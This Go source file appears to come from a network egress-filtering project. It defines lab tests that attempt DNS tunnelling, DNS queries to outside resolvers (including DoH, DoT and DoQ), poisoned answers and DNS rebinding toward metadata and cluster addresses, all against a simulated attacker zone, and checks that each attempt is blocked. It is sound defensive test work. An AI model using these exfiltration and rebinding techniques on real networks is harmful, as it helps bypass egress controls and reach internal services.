// Copyright The Sallyport Authors
// SPDX-License-Identifier: Apache-2.0

package lab

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"net/netip"
	"time"

	"github.com/miekg/dns"

	"github.com/sallyport/sallyport/flow"
	"github.com/sallyport/sallyport/lab/client"
)

// Ways out through names: by asking for them, by asking others, and by what the
// answers say.

var dnsTunnel = []Try{
	asking("A", flow.NameNotAllowed, underAttacker, client.Question{Type: "A"}),
	asking("AAAA", flow.NameNotAllowed, underAttacker, client.Question{Type: "AAAA"}),
	asking("TXT", flow.NameNotAllowed, underAttacker, client.Question{Type: "TXT"}),
	asking("A over TCP", flow.NameNotAllowed, underAttacker, client.Question{Type: "A", TCP: true}),
	asking("A below an exact name", flow.NameNotAllowed, func(e *Env) (string, error) {
		name, err := e.Allowed()
		return e.Nonce + ".x." + name, err
	}, client.Question{Type: "A"}),
	asking("TXT below a wildcard", flow.TypeNotAllowed, underWildcard, client.Question{Type: "TXT"}),
	asking("NULL below a wildcard", flow.TypeNotAllowed, underWildcard, client.Question{Type: "NULL"}),
}

func underAttacker(e *Env) (string, error) { return e.Nonce + "." + AttackerZone, nil }

// below returns an allowed HTTPS name with this label, below a wildcard, so that
// nobody has ever asked for it.
func (e *Env) below(label string) (string, error) {
	for _, r := range e.Lab.Plan.Reaches {
		rule := r.Pair.Rule
		if apex, wild := rule.Pattern.Apex(); wild && rule.Protocol == flow.ProtoHTTPS && r.Port == 443 && r.Source == e.Source {
			return label + "." + apex.String(), nil
		}
	}
	return "", errors.New("the program has no wildcard over HTTPS")
}

func underWildcard(e *Env) (string, error) { return e.below(e.Nonce) }

// Fresh returns an allowed name that nobody has ever asked for, and that may be
// asked for: it does not carry the nonce.
func (e *Env) Fresh() (string, error) {
	e.label = client.NewNonce()
	return e.below(e.label)
}

// asking is the try of a question to the node's own resolver for a name that
// carries the nonce: no name server may hear of it.
func asking(what string, want flow.Reason, name func(e *Env) (string, error), q client.Question) Try {
	return Try{What: what, Want: []flow.Reason{want}, Do: func(ctx context.Context, e *Env) (bool, string, error) {
		var err error
		if q.Name, err = name(e); err != nil {
			return false, "", err
		}
		q := q
		q.Source = e.Source
		a, err := e.Lab.Ask(ctx, q)
		if err != nil {
			return false, "", err
		}
		leaked, detail := e.Leaked(ctx)
		if !leaked {
			detail = a.Rcode + a.Error
		}
		return leaked, detail, nil
	}}
}

var otherResolver = []Try{
	resolverAt("DNS over UDP", 53, true, question, (*Env).theirs),
	resolverAt("DNS over TCP", 53, false, question, (*Env).theirs),
	resolverAt("the platform's, UDP", 53, true, question, (*Env).platform),
	resolverAt("the platform's, TCP", 53, false, question, (*Env).platform),
	resolverAt("DoT", 853, false, helloTo(AttackerZone), (*Env).theirs),
	resolverAt("DoQ", 853, true, quicInitial, (*Env).theirs),
	{What: "DoH", Want: []flow.Reason{flow.UnboundAddress}, Do: func(ctx context.Context, e *Env) (bool, string, error) {
		hello, err := helloTo("dns." + AttackerZone)(e)
		if err != nil {
			return false, "", err
		}
		return e.SayHello(ctx, e.attacker(443), hello)
	}},
	{What: "DoH behind an allowed address", Want: []flow.Reason{flow.NameNotAllowed}, Do: func(ctx context.Context, e *Env) (bool, string, error) {
		return saidThere("", nil, func(e *Env, _ string) ([]byte, error) { return helloTo("dns.google")(e) }).Do(ctx, e)
	}},
	{What: "DoH in plain HTTP", Want: []flow.Reason{flow.UnboundAddress}, Do: func(ctx context.Context, e *Env) (bool, string, error) {
		q, err := question(e)
		if err != nil {
			return false, "", err
		}
		get := fmt.Sprintf("GET /dns-query?dns=%s&n=%s HTTP/1.1\r\nHost: %s\r\n\r\n", base64.RawURLEncoding.EncodeToString(q), e.Nonce, AttackerZone)
		return e.Say(ctx, client.Raw{To: e.attacker(80), Chunks: [][]byte{[]byte(get)}})
	}},
}

func (e *Env) theirs() netip.Addr { return e.Lab.Plan.Attacker }

// platform is where a virtual network's machines find names by themselves. In
// Azure no route leads there past the gateway, so there the subnet's security
// group must close it; here one does.
func (e *Env) platform() netip.Addr { return e.Lab.Plan.Wire }

// resolverAt is the try of talking to another resolver.
func resolverAt(what string, port uint16, udp bool, message func(e *Env) ([]byte, error), at func(e *Env) netip.Addr) Try {
	return Try{What: what, Want: []flow.Reason{flow.OtherResolver}, Do: func(ctx context.Context, e *Env) (bool, string, error) {
		b, err := message(e)
		if err != nil {
			return false, "", err
		}
		if port == 53 && !udp {
			b = append([]byte{byte(len(b) >> 8), byte(len(b))}, b...) // RFC 1035 section 4.2.2
		}
		return e.Say(ctx, client.Raw{UDP: udp, To: netip.AddrPortFrom(at(e), port), Chunks: [][]byte{b}})
	}}
}

// question is a question for a name that carries the nonce.
func question(e *Env) ([]byte, error) {
	m := new(dns.Msg)
	m.SetQuestion(e.Nonce+"."+AttackerZone+".", dns.TypeTXT)
	return m.Pack()
}

func helloTo(name string) func(e *Env) ([]byte, error) {
	return func(e *Env) ([]byte, error) { return e.Hello(client.TLS{Classical: true}, name) }
}

// poisonedAnswers are answers of the allowed name's own server, which say more
// than they were asked: none of it may be believed.
var poisonedAnswers = []Try{
	poisoned("for another allowed name", func(name, other string) (asked, used string) { return other, name }),
	poisoned("beside an alias", func(name, _ string) (asked, used string) { return name, name }),
}

// poisoned is the try of asking for one name, whose answer says that another one
// is at the attacker's, and using that one there.
func poisoned(what string, which func(name, other string) (asked, used string)) Try {
	return Try{What: what, Want: []flow.Reason{flow.UnboundAddress}, Do: func(ctx context.Context, e *Env) (leaked bool, detail string, err error) {
		name, err := e.Fresh()
		if err != nil {
			return false, "", err
		}
		asked, used := which(name, "other-"+name)
		net := e.Lab.Internet
		if err := errors.Join(
			net.SetRecords(ctx, map[string][]string{asked: {"CNAME " + cdnName + "."}}),
			net.SetUnasked(ctx, map[string][]string{asked: {fmt.Sprintf("%s. 60 IN A %s", used, e.Lab.Plan.Attacker)}}),
		); err != nil {
			return false, "", err
		}
		defer func() {
			err = errors.Join(err, net.SetRecords(ctx, map[string][]string{asked: nil}), net.SetUnasked(ctx, map[string][]string{asked: nil}))
		}()
		if _, err := e.Resolve(ctx, asked); err != nil {
			return false, "", err
		}
		hello, err := e.Hello(client.TLS{Classical: true}, used)
		if err != nil {
			return false, "", err
		}
		return e.SayHello(ctx, e.attacker(443), hello)
	}}
}

var rebinding = []Try{
	leadingTo("another private address", flow.PrivateAddress, func(p *Plan) netip.Addr { return p.Elsewhere }),
	leadingTo("the metadata service", flow.SpecialAddress, func(p *Plan) netip.Addr { return p.Metadata }),
	leadingTo("the platform's address", flow.SpecialAddress, func(p *Plan) netip.Addr { return p.Wire }),
	leadingTo("a service of the cluster", flow.SpecialAddress, func(p *Plan) netip.Addr { return p.Service }),
}

// leadingTo is the try of an allowed name whose owner, or whoever has taken it
// over, makes it lead to an address that it must not lead to. The question and
// the flow are both denied; what is looked for is why the answer had nothing.
func leadingTo(what string, want flow.Reason, to func(p *Plan) netip.Addr) Try {
	return Try{What: what, Want: []flow.Reason{want}, Do: func(ctx context.Context, e *Env) (leaked bool, detail string, err error) {
		at := to(&e.Lab.Plan)
		if !at.IsValid() {
			at = e.Lab.Plan.Metadata
		}
		name, err := e.Fresh()
		if err != nil {
			return false, "", err
		}
		net := e.Lab.Internet
		if err := net.SetRecords(ctx, map[string][]string{name: {addressRecord(at)}}); err != nil {
			return false, "", err
		}
		defer func() { err = errors.Join(err, net.SetRecords(ctx, map[string][]string{name: nil})) }()
		a, err := e.Lab.Ask(ctx, client.Question{Name: name, Source: e.Source, Timeout: time.Second})
		if err != nil {
			return false, "", err
		}
		if e.Held() && len(a.Addrs) > 0 {
			return true, fmt.Sprintf("the answer is %v", a.Addrs), nil
		}
		hello, err := e.Hello(client.TLS{Classical: true}, name)
		if err != nil {
			return false, "", err
		}
		return e.SayHello(ctx, netip.AddrPortFrom(at, 443), hello)
	}}
}
